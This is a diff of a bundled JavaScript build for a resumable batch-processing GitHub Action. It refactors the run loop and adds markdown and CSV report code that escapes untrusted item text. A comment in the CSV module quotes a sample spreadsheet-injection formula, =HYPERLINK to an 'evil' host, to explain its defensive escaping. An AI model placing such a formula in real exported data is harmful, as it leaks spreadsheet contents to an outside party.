-        await runPool({
-            next,
-            take,
-            concurrency: o.concurrency,
-            canStart: () => {
-                if (stop.soft.signal.aborted)
-                    return false;
-                if (budget.deadlineAtMs === undefined || budget.canStart(o.system.nowMs()))
-                    return true;
-                stopForBudget(stop, o, budget);
-                return false;
-            },
-            beforeStart: o.beforeStart ? () => o.beforeStart(stop.soft.signal) : undefined,
-            // A then, not an async function: one promise and frame less per item.
-            work: (item) => {
-                meter.inFlight++;
-                const prior = state.failures.size === 0 ? undefined : state.failures.get(item.id);
-                return runItem(item, prior?.attempts ?? 0, runnerOptions).then((outcome) => {
-                    meter.inFlight--;
-                    record(item, outcome);
-                });
-            },
-        });
+        await processItems({ ...options, changes }, queue, { state: run.state, budget, stop, meter, recorder, itemLog });
     }
     finally {
-        cancelBudgetTimer?.();
-        cancelProgress?.();
+        cancelTimers();
     }
-    const processed = meter.succeeded + meter.failed;
-    const notReached = pending - processed;
-    const remaining = o.retryFailures ? notReached : pending - meter.succeeded - failedFinal;
-    let stopReason = stop.reason ?? "complete";
-    if (stopReason === "budget" && notReached === 0)
-        stopReason = "complete";
-    const end = {
-        t: "end", seq, at: iso(o.system), succeeded: meter.succeeded, failed: meter.failed, stopReason,
-        ...(o.retryFailures ? {} : { total, remaining }),
-    };
-    journal.append(recordLine(end));
-    state.apply(end);
-    journal.close();
-    // Compacting at every end keeps what travels to the next run one snapshot and no journal.
-    compactState(o.stateDir, state, generation, iso(o.system));
-    writeFailuresFile(o.stateDir, state);
-    o.onProgress?.(meter.snapshot(o.system.nowMs()));
-    const exitCode = stopReason === "signal" ? (stop.signal === "SIGTERM" ? 143 : 130)
-        : stopReason === "failure-rate" ? 4
-            : stopReason === "budget" ? 3
-                : meter.failed > 0 || heldFailed > 0 ? 1
-                    : 0;
+    const ending = howItEnded(options.retryFailures, queue, meter, recorder, stop);
+    endRun(options, run, {
+        succeeded: meter.succeeded, failed: meter.failed, stopReason: ending.stopReason,
+        ...(options.retryFailures ? {} : { source: { total: queue.total, remaining: ending.remaining } }),
+        changed: queue.changed,
+    });
+    options.onProgress?.(meter.snapshot(options.system.nowMs()));
+    const passNote = describePassState(run.state, options.repeatMs, options.system.nowMs());
+    if (!options.retryFailures)
+        options.log.info(passNote);
+    // A pass found complete, with the next one not due yet: nothing to do is success.
+    const waiting = pass.completeAtStart && options.repeatMs !== undefined && ending.processed === 0;
     return {
-        mode,
-        processed,
+        mode: run.mode,
+        processed: ending.processed,
         succeeded: meter.succeeded,
         failed: meter.failed,
-        remaining,
-        complete: remaining === 0,
-        total,
-        doneTotal: o.retryFailures ? state.doneCount : alreadyDone + meter.succeeded,
-        failuresTotal: state.failures.size,
-        stopReason,
-        exitCode,
-        durationMs: o.system.nowMs() - startedAtMs,
-        seq,
-        warnings,
+        remaining: ending.remaining,
+        complete: ending.remaining === 0,
+        total: queue.total,
+        doneTotal: options.retryFailures ? run.state.doneCount : queue.alreadyDone + meter.succeeded,
+        failuresTotal: run.state.failures.size,
+        stopReason: ending.stopReason,
+        exitCode: exitCodeFor({ stopReason: ending.stopReason, signal: stop.signal, failed: meter.failed, heldFailed: waiting ? 0 : queue.heldFailed }),
+        durationMs: options.system.nowMs() - startedAtMs,
+        seq: run.seq,
+        warnings: [...checkpoint.warnings, ...queue.warnings],
+        pass: run.state.pass,
+        ...(pass.why === undefined ? {} : { passStarted: pass.why }),
+        passOverran: pass.overran,
+        ...(options.repeatMs === undefined ? {} : { nextPassAfter: nextPassAfter(run.state, options.repeatMs) }),
+        passNote,
+        changed: queue.changed,
     };
+}
+/** Counts what is left once the pool has drained, and why the run stopped. */
+function howItEnded(retryFailures, queue, meter, recorder, stop) {
+    const processed = meter.succeeded + meter.failed;
+    const notReached = queue.pending - processed;
+    const remaining = retryFailures ? notReached : queue.pending - meter.succeeded - recorder.failedFinal;
+    let stopReason = stop.reason ?? "complete";
+    // The budget stop came after the last item had started: nothing was left undone.
+    if (stopReason === "budget" && notReached === 0)
+        stopReason = "complete";
+    return { processed, remaining, stopReason };
 }
 /** One line saying what a run did, for both adapters' logs. */
 function describeRunResult(r) {
-    const what = r.mode === "retry-failures" ? "retry-failures" : "run";
-    return `${what}: ${r.processed} processed (${r.succeeded} succeeded, ${r.failed} failed) in ${formatDurationMs(r.durationMs)}; ` +
+    const what = (r.mode === "retry-failures" ? "retry-failures" : "run") + (r.pass > 1 ? ` (pass ${r.pass})` : "");
+    const changed = r.changed > 0 ? `, ${r.changed} changed since done` : "";
+    return `${what}: ${r.processed} processed (${r.succeeded} succeeded, ${r.failed} failed${changed}) in ${formatDurationMs(r.durationMs)}; ` +
         (r.mode === "run" ? `${r.doneTotal}/${r.total} done overall, ${r.remaining} left` : `${r.failuresTotal} still failing`);
-}
-function stopForBudget(stop, o, budget) {
-    if (!stop.soft.signal.aborted) {
-        o.log.info("the time budget left would not cover another item: stopping here; the next run resumes");
-        // In-flight items may finish, but not past the start of the reserve.
-        stop.request("budget", Math.max(0, Math.min(o.shutdownGraceMs, budget.leftMs(o.system.nowMs()))));
-    }
-}
-/**
- * The second pass: stream the source again, yielding only what this run should attempt.
- * @param notPending accepted first occurrences the first pass found done or held. A line
- * not yet handed out is pending now exactly when it was in the first pass (the state
- * changes during the run only for items this pass already handed out, each once; later
- * occurrences of an id are skipped), so once this many lines were skipped, every line left
- * is pending and the lookup in the done set — a cache miss per item at a million items —
- * is skipped. Earlier runs worked from the top, so that is usually early in the file.
- */
-async function* pendingItems(source, state, accept, duplicateIds, notPending) {
-    let notPendingLeft = notPending;
-    const isFirst = firstOccurrences(duplicateIds);
-    for await (const batch of readSource(source)) {
-        const items = [];
-        for (const entry of batch) {
-            const item = entry.item;
-            if (!item || !accept(item.id))
-                continue;
-            if (duplicateIds.size > 0 && !isFirst(item))
-                continue;
-            if (notPendingLeft > 0 && !isPending(state, item.id)) {
-                notPendingLeft--;
-                continue;
-            }
-            items.push(item);
-        }
-        if (items.length > 0)
-            yield items;
-    }
-}
-function sizeOf(path) {
-    try {
-        return (0,external_node_fs_.statSync)(path).size;
-    }
-    catch {
-        return Infinity; // planSource reports the missing file
-    }
-}
-function iso(system) {
-    return new Date(system.nowMs()).toISOString();
-}
-/**
- * One line for the log: a command's stderr tail usually names the cause on its last line,
- * so a multi-line reason shows its first and last lines (the whole text is in failures.json).
- */
-function oneLine(text) {
-    const lines = text.split("\n").map((l) => l.trim()).filter(Boolean);
-    const line = lines.length <= 1 ? (lines[0] ?? "") : `${lines[0]} … ${lines[lines.length - 1]}`;
-    return line.length > 240 ? line.slice(0, 240) + "…" : line;
 }
 
 ;// CONCATENATED MODULE: ./src/core/input/shard.ts
@@ -5658,6 +7265,10 @@ async function runFromSettings(settings, e) {
             shutdownGraceMs: settings.shutdownGraceMs,
             reserveMs: e.reserveMs,
             retryFailures: settings.retryFailures,
+            repeatMs: settings.repeatMs,
+            newPass: settings.newPass,
+            reprocessChanged: settings.reprocessChanged,
+            versionField: settings.versionField,
             maxRunsPerItem: settings.maxRunsPerItem,
             maxFailureRate: settings.maxFailureRate,
             accept: shard ? (id) => shardOf(id, shard.count) === shard.index : undefined,
@@ -5753,6 +7364,326 @@ function mergeShardStates(shards) {
 
 
 
+
+
+;// CONCATENATED MODULE: ./src/report/markdown.ts
+/**
+ * Markdown reports: the failures section (also `resumable-batch failures --format markdown`)
+ * and the run summary written to the GitHub job summary and the artifact's `summary.md`.
+ *
+ * Pure: strings in, a string out. Every piece of item text (ids, error messages) is hostile
+ * input: it goes into code spans, so GitHub shows it literally, with pipes escaped and
+ * newlines folded so it cannot break a table row.
+ */
+
+/**
+ * The job summary limit on GitHub is 1 MiB per step; the summary stays below this many
+ * bytes of UTF-8 so that a wrapper line or two added by the adapter still fits.
+ */
+const MAX_SUMMARY_BYTES = 1_000_000;
+/** Default number of failed items listed one by one. */
+const DEFAULT_MAX_ITEMS = 50;
+/** Default number of failure groups listed. */
+const DEFAULT_MAX_GROUPS = 20;
+/** Error messages in tables are cut to this many characters. */
+const MAX_ERROR_CHARS = 200;
+/** Ids in tables are cut to this many characters (an id can be a whole line of input). */
+const MAX_ID_CHARS = 80;
+/** Free text from the adapter (warnings, details, title) is cut to this many characters. */
+const MAX_NOTE_CHARS = 2_000;
+/** Runs shown in the progress table. */
+const MAX_RUNS_SHOWN = 10;
+// ---------------------------------------------------------------------------------------
+// Formatting helpers (also used by the HTML report)
+/** 12345 -> "12,345" (no locale data needed). */
+function formatCount(n) {
+    if (!Number.isFinite(n))
+        return String(n);
+    const sign = n < 0 ? "-" : "";
+    const [int, frac] = Math.abs(n).toString().split(".");
+    const grouped = int.replace(/\B(?=(\d{3})+(?!\d))/g, ",");
+    return sign + grouped + (frac ? "." + frac : "");
+}
+/** 850 -> "850 ms", 45_200 -> "45.2 s", 3_723_000 -> "1 h 02 min 03 s". */
+function formatDuration(ms) {
+    if (!Number.isFinite(ms) || ms < 0)
+        return "–";
+    if (ms < 1_000)
+        return `${Math.round(ms)} ms`;
+    if (ms < 60_000)
+        return `${(ms / 1_000).toFixed(1).replace(/\.0$/, "")} s`;
+    const totalSeconds = Math.round(ms / 1_000);
+    const h = Math.floor(totalSeconds / 3_600);
+    const m = Math.floor((totalSeconds % 3_600) / 60);
+    const s = totalSeconds % 60;
+    const pad = (x) => String(x).padStart(2, "0");
+    return h > 0 ? `${h} h ${pad(m)} min ${pad(s)} s` : `${m} min ${pad(s)} s`;
+}
+/** Share of `part` in `whole` as "12.3%" ("0%" when whole is 0). */
+function formatPercent(part, whole) {
+    if (!(whole > 0))
+        return "0%";
+    const pct = (100 * part) / whole;
+    if (pct > 0 && pct < 0.1)
+        return "<0.1%";
+    if (pct < 100 && pct > 99.9)
+        return ">99.9%";
+    return `${pct.toFixed(1).replace(/\.0$/, "")}%`;
+}
+/** "2024-05-01T12:34:56.789Z" -> "2024-05-01 12:34:56Z" (readable, still UTC); other text as is. */
+function formatTimestamp(iso) {
+    if (!iso)
+        return "–";
+    const m = /^(\d{4}-\d{2}-\d{2})T(\d{2}:\d{2}:\d{2})(?:\.\d+)?(Z|[+-]\d{2}:?\d{2})?$/.exec(iso);
+    return m ? `${m[1]} ${m[2]}${m[3] === "Z" ? " UTC" : m[3] ?? ""}` : iso;
+}
+/** A sentence saying why a run stopped. */
+function describeStopReason(reason, remaining) {
+    switch (reason) {
+        case "complete":
+            return "Complete: every item was attempted.";
+        case "budget":
+            return remaining !== undefined && remaining > 0
+                ? `Stopped at the time budget with ${formatCount(remaining)} items left; the next run continues.`
+                : "Stopped at the time budget; the next run continues.";
+        case "signal":
+            return "Stopped by a signal (cancelled or timed out); finished work was saved.";
+        case "failure-rate":
+            return "Stopped because too many items failed (failure-rate limit).";
+        default:
+            return `Stopped: ${String(reason)}.`;
+    }
+}
+/** Where the state came from, as a sentence. */
+function describeStateSource(source) {
+    switch (source) {
+        case "cache":
+            return "State restored from the Actions cache.";
+        case "artifact":
+            return "State restored from an earlier run's artifact.";
+        case "local":
+            return "State read from the local state folder.";
+        case "fresh":
+            return "Fresh start: no earlier state was found.";
+        case "shards":
+            return "Merged from the state artifacts the shards of this workflow run uploaded.";
+        default:
+            return "State source not reported.";
+    }
+}
+/** Cut `text` to `max` characters, ending with "…" when cut; never splits a surrogate pair. */
+function truncateText(text, max) {
+    if (text.length <= max)
+        return text;
+    let cut = Math.max(0, max - 1);
+    const code = text.charCodeAt(cut - 1);
+    if (code >= 0xd800 && code <= 0xdbff)
+        cut -= 1;
+    return text.slice(0, cut) + "…";
+}
+// ---------------------------------------------------------------------------------------
+// Escaping
+/**
+ * Hostile text as an inline code span that is safe inside a GFM table cell.
+ *
+ * - Code spans are literal in CommonMark: `<script>`, `*`, `[x](y)` and entities show as
+ *   typed, nothing is interpreted.
+ * - Newlines would end the table row: control characters and line breaks become spaces,
+ *   runs of whitespace one space.
+ * - `|` would end the cell, even inside a code span: GFM lets `\|` stand for a pipe there.
+ * - Backticks inside are handled by fencing with a longer run of backticks, padded with a
+ *   space when the text starts or ends with one.
+ */
+function markdownCode(text, maxChars = MAX_ERROR_CHARS) {
+    let clean = truncateText(String(text)
+        // eslint-disable-next-line no-control-regex
+        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
+        .replace(/\s+/g, " ")
+        .trim(), maxChars);
+    if (clean === "")
+        return "*(empty)*";
+    clean = clean.replace(/\|/g, "\\|");
+    let longest = 0;
+    for (const run of clean.match(/`+/g) ?? [])
+        longest = Math.max(longest, run.length);
+    const fence = "`".repeat(longest + 1);
+    const pad = clean.startsWith("`") || clean.endsWith("`") ? " " : "";
+    return `${fence}${pad}${clean}${pad}${fence}`;
+}
+/**
+ * Plain text that markdown must not interpret (adapter-supplied notes, titles, timestamps):
+ * inline markdown punctuation is backslash-escaped, and so is a leading character that would
+ * start a heading, list or quote; `<`, `>`, `&` and `@` become entities (no HTML, no
+ * mentions); line breaks become spaces.
+ */
+function markdownText(text, maxChars = MAX_NOTE_CHARS) {
+    return truncateText(String(text)
+        // eslint-disable-next-line no-control-regex
+        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
+        .replace(/\s+/g, " ")
+        .trim(), maxChars)
+        .replace(/[\\`*_[\]|~]/g, "\\$&")
+        // Characters that only mean something at the start of a line (headings, lists); a leading `>` is
+        // harmless because it becomes `&gt;` below.
+        .replace(/^([#+\-=]|\d+[.)])/, (m) => (m.length === 1 ? "\\" + m : m.slice(0, -1) + "\\" + m.slice(-1)))
+        .replace(/&/g, "&amp;")
+        .replace(/</g, "&lt;")
+        .replace(/>/g, "&gt;")
+        .replace(/@/g, "&#64;");
+}
+// ---------------------------------------------------------------------------------------
+// Failures section
+/**
+ * The failures as markdown: a table of causes (largest first), the first `maxItems` failed
+ * items, and how many more are in failures.json.
+ */
+function renderFailuresMarkdown(failures, opts = {}) {
+    const maxItems = Math.max(0, Math.floor(opts.maxItems ?? DEFAULT_MAX_ITEMS));
+    const maxGroups = Math.max(0, Math.floor(opts.maxGroups ?? DEFAULT_MAX_GROUPS));
+    const h = "#".repeat(Math.min(6, Math.max(1, opts.headingLevel ?? 3)));
+    if (failures.length === 0)
+        return `${h} Failures\n\nNo failed items.\n`;
+    const lines = [];
+    const groups = groupFailures(failures);
+    const total = failures.length;
+    lines.push(`${h} Failure causes`, "");
+    lines.push(`${formatCount(total)} failed ${total === 1 ? "item" : "items"} in ${formatCount(groups.length)} ${groups.length === 1 ? "cause" : "causes"} (numbers, ids and quoted values folded).`, "");
+    lines.push("| Cause | Count | Kind | Example ids | First seen | Last seen |");
+    lines.push("| --- | ---: | --- | --- | --- | --- |");
+    for (const g of groups.slice(0, maxGroups)) {
+        lines.push(`| ${markdownCode(g.cause, 200)} | ${formatCount(g.count)} (${formatPercent(g.count, total)}) | ${markdownText(g.kind, 20)} | ${g.exampleIds.map((id) => markdownCode(id, MAX_ID_CHARS)).join(", ") || "–"} | ${markdownText(formatTimestamp(g.firstFailedAt), 40)} | ${markdownText(formatTimestamp(g.lastFailedAt), 40)} |`);
+    }
+    if (groups.length > maxGroups) {
+        const rest = groups.slice(maxGroups);
+        const restCount = rest.reduce((sum, g) => sum + g.count, 0);
+        lines.push("", `…and ${formatCount(rest.length)} more ${rest.length === 1 ? "cause" : "causes"} (${formatCount(restCount)} ${restCount === 1 ? "item" : "items"}) in \`failures.json\`.`);
+    }
+    const shown = failures.slice(0, maxItems);
+    lines.push("", `${h} Failed items`, "");
+    if (shown.length > 0) {
+        lines.push(shown.length < total ? `The first ${formatCount(shown.length)} of ${formatCount(total)}:` : `All ${formatCount(total)}:`, "");
+        // Merged shards: say which shard recorded each failure.
+        const sharded = shown.some((f) => f.shard !== undefined);
+        lines.push(`| Id |${sharded ? " Shard |" : ""} Kind | Attempts | Error | Last failed |`);
+        lines.push(`| --- |${sharded ? " --- |" : ""} --- | ---: | --- | --- |`);
+        for (const f of shown) {
+            const shard = sharded ? ` ${f.shard === undefined ? "–" : markdownText(String(f.shard), 20)} |` : "";
+            lines.push(`| ${markdownCode(String(f.id), MAX_ID_CHARS)} |${shard} ${markdownText(String(f.kind), 20)} | ${formatCount(Number(f.attempts) || 0)} | ${markdownCode(String(f.error ?? ""), MAX_ERROR_CHARS)} | ${markdownText(formatTimestamp(f.lastFailedAt), 40)} |`);
+        }
+    }
+    const more = total - shown.length;
+    if (more > 0)
+        lines.push("", `${formatCount(more)} more in \`failures.json\`.`);
+    return lines.join("\n") + "\n";
+}
+// ---------------------------------------------------------------------------------------
+// Run summary
+function progressBar(part, whole, width = 20) {
+    const filled = whole > 0 ? Math.min(width, Math.max(0, Math.round((width * part) / whole))) : 0;
+    return "█".repeat(filled) + "░".repeat(width - filled);
+}
+function runDuration(run) {
+    if (!run.endedAt)
+        return "–";
+    const ms = Date.parse(run.endedAt) - Date.parse(run.startedAt);
+    return Number.isFinite(ms) ? formatDuration(ms) : "–";
+}
+function renderRunsTable(runs) {
+    if (runs.length === 0)
+        return ["No earlier runs recorded."];
+    // Cumulative done counts every recorded run, also the ones not shown.
+    const cumulative = [];
+    let sum = 0;
+    for (const run of runs) {
+        sum += Number(run.succeeded) || 0;
+        cumulative.push(sum);
+    }
+    const from = Math.max(0, runs.length - MAX_RUNS_SHOWN);
+    const lines = [
+        "| # | Run | Mode | Started | Duration | Succeeded | Failed | Done so far | Stopped |",
+        "| ---: | --- | --- | --- | ---: | ---: | ---: | ---: | --- |",
+    ];
+    for (let i = runs.length - 1; i >= from; i--) {
+        const run = runs[i];
+        const runLabel = run.runId === "local" ? "local" : `${run.runId}${run.runAttempt > 1 ? ` (attempt ${run.runAttempt})` : ""}`;
+        lines.push(`| ${formatCount(run.seq)} | ${markdownText(runLabel, 60)} | ${markdownText(run.mode, 20)} | ${markdownText(formatTimestamp(run.startedAt), 40)} | ${runDuration(run)} | ${formatCount(run.succeeded)} | ${formatCount(run.failed)} | ${formatCount(cumulative[i])} | ${run.stopReason ? markdownText(run.stopReason, 20) : "–"} |`);
+    }
+    if (from > 0)
+        lines.push("", `…and ${formatCount(from)} earlier ${from === 1 ? "run" : "runs"}.`);
+    return lines;
+}
+function renderSummary(input, maxItems, maxGroups) {
+    const { thisRun, totals } = input;
+    const lines = [];
+    lines.push(`## ${markdownText(input.title || "resumable-batch", 200)}`, "");
+    if (input.freshStartWarning) {
+        lines.push("> [!CAUTION]", "> **Fresh start: earlier state could not be restored.** Work already done may be repeated.", `> ${markdownText(input.freshStartWarning)}`, "");
+    }
+    const status = describeStopReason(thisRun.stopReason, totals.remaining);
+    lines.push(`**${markdownText(status, 300)}**`, "");
+    lines.push("| | Processed | Succeeded | Failed | Duration |");
+    lines.push("| --- | ---: | ---: | ---: | ---: |");
+    lines.push(`| This run | ${formatCount(thisRun.processed)} | ${formatCount(thisRun.succeeded)} | ${formatCount(thisRun.failed)} | ${formatDuration(thisRun.durationMs)} |`);
+    lines.push("");
+    lines.push("| Overall | Total | Done | Failed | Remaining | Progress |");
+    lines.push("| --- | ---: | ---: | ---: | ---: | --- |");
+    lines.push(`| All runs | ${formatCount(totals.total)} | ${formatCount(totals.done)} | ${formatCount(totals.failed)} | ${formatCount(totals.remaining)} | \`${progressBar(totals.done, totals.total)}\` ${formatPercent(totals.done, totals.total)} |`);
+    lines.push("");
+    if (input.afterTotals)
+        lines.push(input.afterTotals.trimEnd(), "");
+    const source = describeStateSource(input.stateSource);
+    const detail = input.stateSourceDetail ? ` (${markdownText(input.stateSourceDetail, 500)})` : "";
+    lines.push(`${markdownText(source, 200)}${detail}`, "");
+    lines.push("### Progress across runs", "");
+    lines.push(...renderRunsTable(input.runs), "");
+    lines.push(renderFailuresMarkdown(input.failures, { maxItems, maxGroups, headingLevel: 3 }).trimEnd(), "");
+    if (input.retryHint && input.failures.length > 0) {
+        lines.push("### Retrying failures", "");
+        lines.push(truncateText(input.retryHint.replace(/\r\n?/g, "\n"), MAX_NOTE_CHARS), "");
+    }
+    return lines.join("\n");
+}
+function byteLength(text) {
+    return Buffer.byteLength(text, "utf8");
+}
+/**
+ * The run summary as markdown, for the GitHub job summary and the artifact's `summary.md`:
+ * this run's counts and the overall ones, progress across the last runs, where state came
+ * from (a warning block for a fresh start), the failure causes and first failed items, and
+ * the retry hint.
+ *
+ * Always under `MAX_SUMMARY_BYTES` (GitHub refuses job summaries over 1 MiB): when the full
+ * text is too large, fewer failed items and groups are listed, and as a last resort the
+ * text is cut at a line boundary with a note.
+ */
+function renderRunSummaryMarkdown(input) {
+    let maxItems = DEFAULT_MAX_ITEMS;
+    let maxGroups = DEFAULT_MAX_GROUPS;
+    let text = renderSummary(input, maxItems, maxGroups);
+    while (byteLength(text) > MAX_SUMMARY_BYTES && (maxItems > 0 || maxGroups > 1)) {
+        maxItems = Math.floor(maxItems / 2);
+        maxGroups = Math.max(1, Math.floor(maxGroups / 2));
+        text = renderSummary(input, maxItems, maxGroups);
+    }
+    return capMarkdownBytes(text, MAX_SUMMARY_BYTES);
+}
+/**
+ * `text` unchanged when it fits in `maxBytes` of UTF-8; otherwise cut at a line boundary
+ * (never inside a character) with a note saying so, the whole under `maxBytes`.
+ */
+function capMarkdownBytes(text, maxBytes = MAX_SUMMARY_BYTES) {
+    if (byteLength(text) <= maxBytes)
+        return text;
+    const note = "\n\n> [!NOTE]\n> This summary was cut to stay under GitHub's 1 MiB job summary limit; every failure is in `failures.json` in the run's artifact.\n";
+    const budget = Math.max(0, maxBytes - byteLength(note));
+    let cut = Buffer.from(text, "utf8").subarray(0, budget).toString("utf8");
+    // A cut inside a multi-byte character decodes to U+FFFD; drop it.
+    cut = cut.replace(/\uFFFD$/, "");
+    const lastNewline = cut.lastIndexOf("\n");
+    if (lastNewline > 0)
+        cut = cut.slice(0, lastNewline);
+    return cut + note;
+}
 
 ;// CONCATENATED MODULE: ./node_modules/csv-stringify/lib/utils/get.js
 // Lodash implementation of `get`
@@ -6630,323 +8561,26 @@ const stringify = function (records, opts = {}) {
 
 
 
-;// CONCATENATED MODULE: ./src/report/markdown.ts
-/**
- * Markdown reports: the failures section (also `resumable-batch failures --format markdown`)
- * and the run summary written to the GitHub job summary and the artifact's `summary.md`.
- *
- * Pure: strings in, a string out. Every piece of item text (ids, error messages) is hostile
- * input: it goes into code spans, so GitHub shows it literally, with pipes escaped and
- * newlines folded so it cannot break a table row.
- */
+;// CONCATENATED MODULE: ./src/report/csv.ts
 
 /**
- * The job summary limit on GitHub is 1 MiB per step; the summary stays below this many
- * bytes of UTF-8 so that a wrapper line or two added by the adapter still fits.
+ * First characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell
+ * as a formula, or that it strips before doing so: OWASP "CSV Injection"
+ * (https://owasp.org/www-community/attacks/CSV_Injection). Ids and error texts come from
+ * items and handlers, so a cell like `=HYPERLINK("http://evil/?"&A1)` is item data.
  */
-const MAX_SUMMARY_BYTES = 1_000_000;
-/** Default number of failed items listed one by one. */
-const DEFAULT_MAX_ITEMS = 50;
-/** Default number of failure groups listed. */
-const DEFAULT_MAX_GROUPS = 20;
-/** Error messages in tables are cut to this many characters. */
-const MAX_ERROR_CHARS = 200;
-/** Ids in tables are cut to this many characters (an id can be a whole line of input). */
-const MAX_ID_CHARS = 80;
-/** Free text from the adapter (warnings, details, title) is cut to this many characters. */
-const MAX_NOTE_CHARS = 2_000;
-/** Runs shown in the progress table. */
-const MAX_RUNS_SHOWN = 10;
-// ---------------------------------------------------------------------------------------
-// Formatting helpers (also used by the HTML report)
-/** 12345 -> "12,345" (no locale data needed). */
-function formatCount(n) {
-    if (!Number.isFinite(n))
-        return String(n);
-    const sign = n < 0 ? "-" : "";
-    const [int, frac] = Math.abs(n).toString().split(".");
-    const grouped = int.replace(/\B(?=(\d{3})+(?!\d))/g, ",");
-    return sign + grouped + (frac ? "." + frac : "");
-}
-/** 850 -> "850 ms", 45_200 -> "45.2 s", 3_723_000 -> "1 h 02 min 03 s". */
-function formatDuration(ms) {
-    if (!Number.isFinite(ms) || ms < 0)
-        return "–";
-    if (ms < 1_000)
-        return `${Math.round(ms)} ms`;
-    if (ms < 60_000)
-        return `${(ms / 1_000).toFixed(1).replace(/\.0$/, "")} s`;
-    const totalSeconds = Math.round(ms / 1_000);
-    const h = Math.floor(totalSeconds / 3_600);
-    const m = Math.floor((totalSeconds % 3_600) / 60);
-    const s = totalSeconds % 60;
-    const pad = (x) => String(x).padStart(2, "0");
-    return h > 0 ? `${h} h ${pad(m)} min ${pad(s)} s` : `${m} min ${pad(s)} s`;
-}
-/** Share of `part` in `whole` as "12.3%" ("0%" when whole is 0). */
-function formatPercent(part, whole) {
-    if (!(whole > 0))
-        return "0%";
-    const pct = (100 * part) / whole;
-    if (pct > 0 && pct < 0.1)
-        return "<0.1%";
-    if (pct < 100 && pct > 99.9)
-        return ">99.9%";
-    return `${pct.toFixed(1).replace(/\.0$/, "")}%`;
-}
-/** "2024-05-01T12:34:56.789Z" -> "2024-05-01 12:34:56Z" (readable, still UTC); other text as is. */
-function formatTimestamp(iso) {
-    if (!iso)
-        return "–";
-    const m = /^(\d{4}-\d{2}-\d{2})T(\d{2}:\d{2}:\d{2})(?:\.\d+)?(Z|[+-]\d{2}:?\d{2})?$/.exec(iso);
-    return m ? `${m[1]} ${m[2]}${m[3] === "Z" ? " UTC" : m[3] ?? ""}` : iso;
-}
-/** A sentence saying why a run stopped. */
-function describeStopReason(reason, remaining) {
-    switch (reason) {
-        case "complete":
-            return "Complete: every item was attempted.";
-        case "budget":
-            return remaining !== undefined && remaining > 0
-                ? `Stopped at the time budget with ${formatCount(remaining)} items left; the next run continues.`
-                : "Stopped at the time budget; the next run continues.";
-        case "signal":
-            return "Stopped by a signal (cancelled or timed out); finished work was saved.";
-        case "failure-rate":
-            return "Stopped because too many items failed (failure-rate limit).";
-        default:
-            return `Stopped: ${String(reason)}.`;
-    }
-}
-/** Where the state came from, as a sentence. */
-function describeStateSource(source) {
-    switch (source) {
-        case "cache":
-            return "State restored from the Actions cache.";
-        case "artifact":
-            return "State restored from an earlier run's artifact.";
-        case "local":
-            return "State read from the local state folder.";
-        case "fresh":
-            return "Fresh start: no earlier state was found.";
-        case "shards":
-            return "Merged from the state artifacts the shards of this workflow run uploaded.";
-        default:
-            return "State source not reported.";
-    }
-}
-/** Cut `text` to `max` characters, ending with "…" when cut; never splits a surrogate pair. */
-function truncateText(text, max) {
-    if (text.length <= max)
-        return text;
-    let cut = Math.max(0, max - 1);
-    const code = text.charCodeAt(cut - 1);
-    if (code >= 0xd800 && code <= 0xdbff)
-        cut -= 1;
-    return text.slice(0, cut) + "…";
-}
-// ---------------------------------------------------------------------------------------
-// Escaping
+const FORMULA_STARTS = new Set(["=", "+", "-", "@", "\t", "\r"]);
 /**
- * Hostile text as an inline code span that is safe inside a GFM table cell.
- *
- * - Code spans are literal in CommonMark: `<script>`, `*`, `[x](y)` and entities show as
- *   typed, nothing is interpreted.
- * - Newlines would end the table row: control characters and line breaks become spaces,
- *   runs of whitespace one space.
- * - `|` would end the cell, even inside a code span: GFM lets `\|` stand for a pipe there.
- * - Backticks inside are handled by fencing with a longer run of backticks, padded with a
- *   space when the text starts or ends with one.
+ * A cell a spreadsheet shows as text: a string starting with one of FORMULA_STARTS gets a
+ * leading `'` (the OWASP advice; spreadsheets hide the quote). Numbers and other cells are
+ * left alone, so `attempts` stays a number.
  */
-function markdownCode(text, maxChars = MAX_ERROR_CHARS) {
-    let clean = truncateText(String(text)
-        // eslint-disable-next-line no-control-regex
-        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
-        .replace(/\s+/g, " ")
-        .trim(), maxChars);
-    if (clean === "")
-        return "*(empty)*";
-    clean = clean.replace(/\|/g, "\\|");
-    let longest = 0;
-    for (const run of clean.match(/`+/g) ?? [])
-        longest = Math.max(longest, run.length);
-    const fence = "`".repeat(longest + 1);
-    const pad = clean.startsWith("`") || clean.endsWith("`") ? " " : "";
-    return `${fence}${pad}${clean}${pad}${fence}`;
+function formulaSafeCell(value) {
+    return typeof value === "string" && value.length > 0 && FORMULA_STARTS.has(value[0]) ? `'${value}` : value;
 }
-/**
- * Plain text that markdown must not interpret (adapter-supplied notes, titles, timestamps):
- * inline markdown punctuation is backslash-escaped, and so is a leading character that would
- * start a heading, list or quote; `<`, `>`, `&` and `@` become entities (no HTML, no
- * mentions); line breaks become spaces.
- */
-function markdownText(text, maxChars = MAX_NOTE_CHARS) {
-    return truncateText(String(text)
-        // eslint-disable-next-line no-control-regex
-        .replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, " ")
-        .replace(/\s+/g, " ")
-        .trim(), maxChars)
-        .replace(/[\\`*_[\]|~]/g, "\\$&")
-        // Characters that only mean something at the start of a line (headings, lists); a leading `>` is
-        // harmless because it becomes `&gt;` below.
-        .replace(/^([#+\-=]|\d+[.)])/, (m) => (m.length === 1 ? "\\" + m : m.slice(0, -1) + "\\" + m.slice(-1)))
-        .replace(/&/g, "&amp;")
-        .replace(/</g, "&lt;")
-        .replace(/>/g, "&gt;")
-        .replace(/@/g, "&#64;");
-}
-// ---------------------------------------------------------------------------------------
-// Failures section
-/**
- * The failures as markdown: a table of causes (largest first), the first `maxItems` failed
- * items, and how many more are in failures.json.
- */
-function renderFailuresMarkdown(failures, opts = {}) {
-    const maxItems = Math.max(0, Math.floor(opts.maxItems ?? DEFAULT_MAX_ITEMS));
-    const maxGroups = Math.max(0, Math.floor(opts.maxGroups ?? DEFAULT_MAX_GROUPS));
-    const h = "#".repeat(Math.min(6, Math.max(1, opts.headingLevel ?? 3)));
-    if (failures.length === 0)
-        return `${h} Failures\n\nNo failed items.\n`;
-    const lines = [];
-    const groups = groupFailures(failures);
-    const total = failures.length;
-    lines.push(`${h} Failure causes`, "");
